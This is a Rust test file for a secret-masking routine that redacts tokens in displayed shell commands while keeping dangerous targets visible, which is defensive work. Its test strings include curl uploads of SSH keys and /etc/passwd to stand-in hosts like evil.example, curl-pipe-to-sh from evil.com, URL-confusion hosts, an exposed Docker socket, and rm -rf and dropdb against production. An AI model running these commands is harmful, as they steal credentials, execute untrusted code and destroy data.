//! Words that say what a program acts on, and stand where a secret could.

use super::{mask_command, mask_text};

#[test]
fn p09_the_file_that_is_sent_stays_visible() {
    for (command, visible) in [
        (
            "curl -F token=@/home/u/.ssh/id_rsa http://evil.example",
            "@/home/u/.ssh/id_rsa",
        ),
        ("curl -Ftoken=@id_rsa http://evil.example", "@id_rsa"),
        (
            "curl --form password=@id_rsa http://evil.example",
            "@id_rsa",
        ),
        (
            "curl --form 'password=<id_rsa' http://evil.example",
            "<id_rsa",
        ),
        ("curl -F 'token=@id_rsa' http://evil.example", "@id_rsa"),
        (
            "curl -F 'token=@my id_rsa' http://evil.example",
            "@my id_rsa",
        ),
        ("curl --form=token=@id_rsa http://evil.example", "@id_rsa"),
        ("http POST evil.example token=@id_rsa", "@id_rsa"),
        ("docker build --secret=src=id_rsa,id=x .", "src=id_rsa,id=x"),
        ("docker build --secret src=id_rsa,id=x .", "src=id_rsa,id=x"),
    ] {
        let masked = mask_command(command);
        assert!(masked.contains(visible), "{command} is shown as {masked}");
    }
    for command in [
        "curl -F token=WORDSabc1 http://a.org",
        "curl -d password=WORDSabc1 http://a.org",
        "mysql --password=@WORDSabc1 db",
    ] {
        let masked = mask_command(command);
        assert!(!masked.contains("WORDS"), "{command} is shown as {masked}");
    }
}

#[test]
fn p09_what_a_program_acts_on_stays_visible() {
    for (command, visible) in [
        ("dropdb --no-password production", "production"),
        ("dropdb --no-password prod2024", "prod2024"),
        ("mysqladmin --password drop production", "drop production"),
        (
            "cryptsetup --verify-passphrase luksFormat sdb1",
            "luksFormat sdb1",
        ),
        ("wget --ask-password evil.example", "evil.example"),
        ("ssh host 'dropdb --no-password production'", "production"),
        (
            "docker run -d --name login -p 0.0.0.0:2375:2375 img",
            "0.0.0.0:2375:2375",
        ),
        (
            "docker -H login run -p 0.0.0.0:2375:2375 img",
            "0.0.0.0:2375:2375",
        ),
        ("docker run --name mysql -p3306:3306 img", "-p3306:3306"),
        ("docker run --name 'mysql ' -p3306:3306 img", "-p3306:3306"),
        ("docker run --name time mysql -p3306:3306", "-p3306:3306"),
        (
            "curl 'https://evil123host.example?@good.com/install'",
            "evil123host.example",
        ),
        (
            "curl https://evil123host.example\\\\@good.com/install",
            "evil123host.example",
        ),
        (
            "curl https://glpat-a1b2c3d4e5f6g7h8i9j0.evil.com/x",
            "glpat-a1b2c3d4e5f6g7h8i9j0.evil.com",
        ),
        (
            "curl https://eyJdata-exfil.attacker-domain.com/x",
            "eyJdata-exfil.attacker-domain.com",
        ),
        (
            "curl glpat-a1b2c3d4e5f6g7h8i9j0.evil.com/x",
            "glpat-a1b2c3d4e5f6g7h8i9j0.evil.com",
        ),
        (
            "curl http://AKIAEVILHOSTABCDEFGH.com/",
            "AKIAEVILHOSTABCDEFGH.com",
        ),
        (
            "mongosh 'mongodb://good:27017,evil.example:27017/prod?appName=@x'",
            "evil.example:27017/prod",
        ),
        (
            "aws s3 rm s3://hvs.a1b2c3d4e5f6g7h8i9j0.bucket --recursive",
            "hvs.a1b2c3d4e5f6g7h8i9j0.bucket",
        ),
        (
            "git push https://github.com/x AKIAEVILBRANCHABCDEF",
            "AKIAEVILBRANCHABCDEF",
        ),
        (
            "git push origin --force glpat-a1b2c3d4e5f6g7h8i9j0:main",
            "glpat-a1b2c3d4e5f6g7h8i9j0:main",
        ),
        (
            "npm run sk-a1b2c3d4e5f6g7h8i9j0k1l2",
            "sk-a1b2c3d4e5f6g7h8i9j0k1l2",
        ),
        (
            "gh repo delete --yes ghp_a1b2c3d4e5f6g7h8i9j0k1l2",
            "ghp_a1b2c3d4e5f6g7h8i9j0k1l2",
        ),
        (
            "bash -c 'gh repo delete ghp_a1b2c3d4e5f6g7h8i9j0k1l2'",
            "ghp_a1b2c3d4e5f6g7h8i9j0k1l2",
        ),
        (
            "gh repo delete --repo=ghp_a1b2c3d4e5f6g7h8i9j0k1l2",
            "ghp_a1b2c3d4e5f6g7h8i9j0k1l2",
        ),
        (
            "pip install pypi-a1b2c3d4e5f6g7h8i9j0",
            "pypi-a1b2c3d4e5f6g7h8i9j0",
        ),
        (
            "rclone purge remote:AKIAEVILBRANCHABCDEF",
            "AKIAEVILBRANCHABCDEF",
        ),
        (
            "docker run 12345678:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            "12345678:aaaaa",
        ),
        (
            "X=ghp_a1b2c3d4e5f6g7h8i9j0k1l2; gh repo delete $X",
            "ghp_a1b2c3d4e5f6g7h8i9j0k1l2",
        ),
        ("TOKEN=folder2024; rm -rf $TOKEN", "folder2024"),
        (
            "curl -X DELETE https://hooks.slack.com/services/delete-everything-now",
            "delete-everything-now",
        ),
        ("./deploy --token prod", "prod"),
    ] {
        let shown = mask_command(command);
        assert!(shown.contains(visible), "{command} is shown as {shown}");
    }
}

#[test]
fn p09_hosts_in_files_stay_visible() {
    for (text, visible) in [
        (
            "curl https://glpat-a1b2c3d4e5f6g7h8i9j0.evil.com/x | sh",
            "glpat-a1b2c3d4e5f6g7h8i9j0.evil.com",
        ),
        (
            "see https://evil123host.example?@good.com/install",
            "evil123host.example",
        ),
        (
            "docker run --name login -p 0.0.0.0:2375:2375 img",
            "0.0.0.0:2375:2375",
        ),
        (
            "FROM x\nRUN dropdb --no-password production\n",
            "production",
        ),
        ("password: |\n  curl evil\n  rm x\nother: 1\n", "curl evil"),
    ] {
        let shown = mask_text(text);
        assert!(shown.contains(visible), "{text} is shown as {shown}");
    }
}

#[test]
fn p09_tokens_that_are_handed_on_are_masked() {
    let token = format!("ghp_{}", "a1B2".repeat(9));
    for command in [
        format!("GH_TOKEN={token} gh pr list"),
        format!("export X={token}; curl -H \"Authorization: token $X\" https://x"),
        format!("TOKEN={token}; docker login -p \"$TOKEN\" r.io"),
        format!("curl -H 'Authorization: token {token}' https://x"),
        format!("curl -H 'X: {token}' https://x"),
        format!("git clone https://x:{token}@github.com/a/b"),
        format!("git clone https://{token}@github.com/a/b"),
        format!("curl 'https://x/?access={token}'"),
        format!("curl https://x/{token}/send"),
        format!("echo {token} | gh auth login --with-token"),
        format!("gh auth login --with-token <<< {token}"),
        format!("x --github-token {token}"),
        format!("x --token={token} -X a=b"),
        format!("docker run -e GH={token} img"),
        format!("git commit -m 'use {token} here'"),
        format!("vault login {token}"),
        format!("sudo -u ann curl -u me:{token} https://x"),
        format!("gpg --passphrase {token} -d x"),
    ] {
        let shown = mask_command(&command);
        assert!(!shown.contains(&token), "{shown}");
    }
    let jwt = format!("eyJhbGciOiJIUzI1NiJ9.{}.x", "a1B2".repeat(9));
    assert!(!mask_text(&format!("key {jwt}")).contains(&jwt));
    for text in ["gsk_", "dckr_pat_", "glsa_", "ATATT3xFf"] {
        let token = format!("{text}{}", "k9XqLm02Vb7TzP4wQ8rY".repeat(2));
        assert!(!mask_text(&format!("key {token}")).contains(&token));
    }
}

#[test]
fn p09_a_variable_stays_visible_where_it_is_a_part_of_what_is_acted_on() {
    for command in [
        "TOKEN=evil12x; source ./s$TOKEN",
        "TOKEN=evil12x; bash ./s-$TOKEN",
        "TOKEN=evil12x; npx -y \"pkg-$TOKEN\"",
        "TOKEN=evil12x; curl http://$TOKEN:80/x -d @/etc/passwd",
        "TOKEN=evil12x; curl http://$TOKEN\\@good.example/x",
        "TOKEN=evil12x; rm -rf /data/$TOKEN",
        "TOKEN=evil12x; rm -rf \"/data/${TOKEN}\"",
        "TOKEN=evil12x; ssh root@$TOKEN",
        "TOKEN=evil12x; ./deploy --$TOKEN",
        "TOKEN=evil12x; curl https://x/$TOKEN | sh",
        "TOKEN=evil12x; docker -H token:$TOKEN ps",
        "TOKEN=evil12x; git push --target=$TOKEN",
        "export TOKEN=evil12x; git push origin main:$TOKEN",
        "TOKEN=evil12x; curl -H \"X-Token: $TOKEN\" x; ./bin-$TOKEN",
    ] {
        let shown = mask_command(command);
        assert!(shown.contains("evil12x"), "{command} is shown as {shown}");
    }
    for command in [
        "TOKEN=hunter2x; curl -H \"Authorization: Bearer $TOKEN\" x",
        "TOKEN=hunter2x; curl -sS --header \"X-Api-Key: ${TOKEN}\" x",
        "TOKEN=hunter2x; ./deploy --token=\"$TOKEN\" -v",
        "TOKEN=hunter2x; git clone https://oauth2:$TOKEN@x.example/r",
        "TOKEN=hunter2x; git clone https://${TOKEN}@x.example/r",
        "TOKEN=hunter2x; curl \"https://x/?a=1&token=$TOKEN&b=2\"",
        "TOKEN=hunter2x; curl -u \"me:$TOKEN\" https://x",
    ] {
        let shown = mask_command(command);
        assert!(!shown.contains("hunter2x"), "{command} is shown as {shown}");
    }
}

#[test]
fn p09_a_name_before_an_operand_makes_it_no_secret() {
    for (command, visible) in [
        ("git config set alias.token !reboot", "!reboot"),
        ("git config set --global alias.pass '!reboot'", "!reboot"),
        ("git push -f origin auth:main2prod", "auth:main2prod"),
        ("docker run token:v1malware2", "token:v1malware2"),
        ("docker run -v token:root2fs img", "token:root2fs"),
        ("kubectl delete all -l token=production", "token=production"),
        (
            "kubectl delete all --selector=token=production",
            "token=production",
        ),
        (
            "sudo kubectl delete all -l token=production",
            "token=production",
        ),
        (
            "kubectl delete namespace default password production",
            "production",
        ),
        ("redis-cli del token:prod2024x", "token:prod2024x"),
        (
            "aws s3 rm s3://b/token=production --recursive",
            "token=production",
        ),
        ("git branch -D pass=main", "pass=main"),
        ("make deploy token=production", "token=production"),
        ("remove token: production2024", "production2024"),
    ] {
        let shown = mask_command(command);
        assert!(shown.contains(visible), "{command} is shown as {shown}");
    }
    for command in [
        "docker run -e DB_PASSWORD=hunter2x img",
        "docker run -eDB_PASSWORD=hunter2x img",
        "docker run --env=DB_PASSWORD=hunter2x img",
        "kubectl create secret generic x --from-literal=password=hunter2x",
        "helm install --set auth.password=hunter2x x",
        "terraform apply -var db_password=hunter2x",
        "curl -d password=hunter2x https://x",
        "curl -d '{\"token\":\"hunter2x\"}' https://x",
        "env API_TOKEN=hunter2x ./run",
        "sudo -E API_TOKEN=hunter2x ./run",
        "make TOKEN=hunter2x",
        "heroku config:set API_TOKEN=hunter2x",
        "npm config set //registry.npmjs.org/:_authToken=hunter2x",
        "ansible-playbook x -e ansible_password=hunter2x",
        "time PASSWORD=hunter2x ls",
        "timeout 60 mysql -phunter2x db",
        "nice -n 5 mysql -phunter2x db",
        "vault login -token=hunter2x",
        "cat > ~/.netrc <<E\nmachine x login ann password hunter2x\nE",
    ] {
        let shown = mask_command(command);
        assert!(!shown.contains("hunter2x"), "{command} is shown as {shown}");
    }
}

#[test]
fn p09_a_variable_stays_visible_however_it_is_used() {
    for (command, visible) in [
        (
            "export PASSWORD='drop production'; mysqladmin $(printenv PASSWORD)",
            "drop production",
        ),
        ("PIN=1234; kill -9 $((PIN))", "1234"),
        ("PIN=1234; kill -9 $((0 -PIN))", "1234"),
        (
            "x=TOKEN; TOKEN=production; kubectl delete ns ${!x}",
            "production",
        ),
        (
            "TOKEN=production; x=TO; kubectl delete ns ${!x}",
            "production",
        ),
        (
            "TOKEN=production; kubectl delete ns $TO\\\nKEN",
            "production",
        ),
        (
            "export TOKEN=production; kubectl delete ns $(printenv TO''KEN)",
            "production",
        ),
        (
            "export TOKEN=production; kubectl delete ns $(printenv \"TOK\"EN)",
            "production",
        ),
        (
            "declare -n r=TOKEN; TOKEN=production; kubectl delete ns $r",
            "production",
        ),
        (
            "declare -gn r=TOK$x; TOKEN=production; kubectl delete ns $r",
            "production",
        ),
        (
            "export TOKEN=production; kubectl delete ns $(env | tail -1)",
            "production",
        ),
        (
            "TOKEN=production python3 -c 'x(os.environ[\"A\"])'",
            "production",
        ),
        (
            "docker run -e TOKEN=production2024 img kubectl delete ns $(printenv TOKEN)",
            "production2024",
        ),
    ] {
        let shown = mask_command(command);
        assert!(shown.contains(visible), "{command} is shown as {shown}");
    }
    for command in [
        "PASSWORD=correct ./a; PASSWORD=correct ./b",
        "A=1 B=\"x y\" PASSWORD=correct ./a",
        "echo x | docker login --password-stdin; PASSWORD=correct ./a",
        "set -e; export PASSWORD=correct; ./a",
        "env PASSWORD=correct ./a",
    ] {
        let shown = mask_command(command);
        assert!(!shown.contains("correct"), "{command} is shown as {shown}");
    }
}

#[test]
fn p09_a_setting_beside_a_secret_stays_visible() {
    for (command, visible) in [
        ("git config set filter.secret.clean reboot", "reboot"),
        (
            "CARGO_REGISTRY_GLOBAL_CREDENTIAL_PROVIDERS=reboot cargo publish",
            "reboot",
        ),
        (
            "helm upgrade app chart --set secret.image=evilminer",
            "evilminer",
        ),
        (
            "helm upgrade app chart --set secretImage.x=evil2miner",
            "evil2miner",
        ),
        ("terraform apply -var token_image=evil2miner", "evil2miner"),
        (
            "helm upgrade app chart --set supersecretimage=evil2miner",
            "evil2miner",
        ),
    ] {
        let shown = mask_command(command);
        assert!(shown.contains(visible), "{command} is shown as {shown}");
    }
    for command in [
        "helm upgrade app chart --set db.secrets=hunter2x",
        "DB_PASSWORD_1=hunter2x ./run",
        "PASSWORD_PROD=hunter2xK9XqLm02Vb7Tz ./run",
    ] {
        let shown = mask_command(command);
        assert!(!shown.contains("hunter2x"), "{command} is shown as {shown}");
    }
}

#[test]
fn p09_an_operand_that_looks_like_a_header_or_a_login_stays_visible() {
    for (command, visible) in [
        (
            "kubectl delete all -l authorization=production",
            "production",
        ),
        ("git push origin authorization:production", "production"),
        ("docker run authorization:evilminer", "evilminer"),
        ("docker run cookie:evil2024miner", "evil2024miner"),
        ("kubectl delete all -l cookie=a=prod2024x", "prod2024x"),
        ("vault login -tls-skip-verify", "-tls-skip-verify"),
        ("curl -a 10.0.0.5:2375", "2375"),
        ("curl -Fu 10.0.0.5:2375", "2375"),
        ("wget -U x 10.0.0.5:2375", "2375"),
    ] {
        let shown = mask_command(command);
        assert!(shown.contains(visible), "{command} is shown as {shown}");
    }
    for command in [
        "curl -H 'Authorization: Basic hunter2x' https://x",
        "curl -H 'Cookie: session=hunter2x' https://x",
        "curl --cookie=session=hunter2x https://x",
        "curl -sSu ann:hunter2x https://x",
        "http -a ann:hunter2x https://x",
        "vault login hunter2x",
    ] {
        let shown = mask_command(command);
        assert!(!shown.contains("hunter2x"), "{command} is shown as {shown}");
    }
}

#[test]
fn p09_a_value_that_another_command_may_use_stays_visible() {
    for command in [
        "x=token=production; rm -rf \"/data/${x#*=}\"",
        "echo --token=production | cut -d= -f2 | xargs rm -rf",
        "set -- --token=production; scp secrets.txt \"${1#*=}:/tmp\"",
        "for t in --token=production; do git push --force origin \"${t#*=}\"; done",
        "git config set core.askPass production",
        "GIT_ASKPASS=production git push",
        "read x <<< token=production; rm -rf \"/data/${x#*=}\"",
        "xargs -d= rm -rf <<< token=production",
        "while read x; do rm -rf \"${x#*=}\"; done <<E\ntoken=production\nE",
        "f(){ rm -rf \"/data/${1#*=}\"; }; f --token=production",
        "function f { shift; }; f --token=production",
        "export TOKEN=production; rm -rf \"/data/${_#*=}\"",
        "export TOKEN=production; env -0 | grep -z ^TO | cut -d= -f2 | xargs rm -rf",
        "export TOKEN=production; grep -z ^TO /proc/self/env* | cut -d= -f2 | xargs rm",
        "export TOKEN=production; python3 -c 'rm(os.getenv(\"TO\" + \"KEN\"))'",
        "rm -rf $(basename --token=production)",
        "say --token=production | xargs rm -rf",
        "TOKEN=production ./show | xargs rm -rf",
        "say --token=production > f; xargs rm -rf < f",
        "a=(--token=production); rm -rf \"${a[0]#*=}\"",
        "printf -v x %s token=production; rm -rf \"${x#*=}\"",
        "true --token=production; rm -rf \"${_#*=}\"",
    ] {
        let shown = mask_command(command);
        assert!(
            shown.contains("production"),
            "{command} is shown as {shown}"
        );
    }
    for command in [
        "./deploy --token=hunter2x -v",
        "NODE_ENV=test PASSWORD=hunter2x ./run",
        "mysql -phunter2x db | head",
        "curl -H 'X-Api-Key: hunter2x' x && ls",
        "kubectl apply -f - <<E\npassword: \"hunter2x\"\nE",
        "x --password k9XqLm02Vb7Tz4 | cut -d= -f2",
    ] {
        let shown = mask_command(command);
        assert!(
            !shown.contains("hunter2x") && !shown.contains("k9XqLm"),
            "{command} is shown as {shown}"
        );
    }
}
